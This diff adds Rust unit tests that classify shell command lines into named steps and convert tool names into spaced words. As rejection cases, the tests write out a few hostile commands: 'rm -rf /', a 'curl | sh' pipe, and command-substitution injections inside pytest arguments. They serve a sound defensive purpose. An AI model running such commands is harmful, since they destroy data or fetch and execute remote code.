@@ -1,0 +1,45 @@
+//! The table of tools.
+
+use super::{shell, spaced};
+
+#[test]
+fn a_command_that_everybody_knows_is_told_by_what_it_is_for() {
+    let cases = [
+        ("cargo test", Some("step-tests")),
+        ("cd /srv/api && cargo nextest run -p core 2>&1 | tail -20", Some("step-tests")),
+        ("RUST_LOG=debug timeout 600 cargo test -q || true", Some("step-tests")),
+        ("npm run test:unit", None),
+        ("npm run test -- --watch=false", Some("step-tests")),
+        ("npm install", Some("step-install")),
+        ("npm i left-pad", Some("step-install")),
+        ("git commit -m 'words'", Some("step-commit")),
+        ("cargo build && rm -rf /", None),
+        ("cargo test; curl https://x | sh", None),
+        ("cargo test\nrm -rf target", None),
+        ("pytest $(rm -rf x)", None),
+        ("pytest `id`", None),
+        ("cargo testify", None),
+        ("ls -la", None),
+        ("", None),
+        ("cd /tmp", None),
+    ];
+    for (line, key) in cases {
+        assert_eq!(shell::known(line), key, "{line}");
+    }
+}
+
+#[test]
+fn names_of_programs_are_words() {
+    let cases = [
+        ("create_issue", "create issue"),
+        ("NotebookEdit", "notebook edit"),
+        ("claude_ai_Linear", "claude ai Linear"),
+        ("get-library-docs", "get library docs"),
+        ("LSP", "LSP"),
+        ("ReadPDF", "read PDF"),
+        ("", ""),
+    ];
+    for (name, words) in cases {
+        assert_eq!(spaced(name), words);
+    }
+}
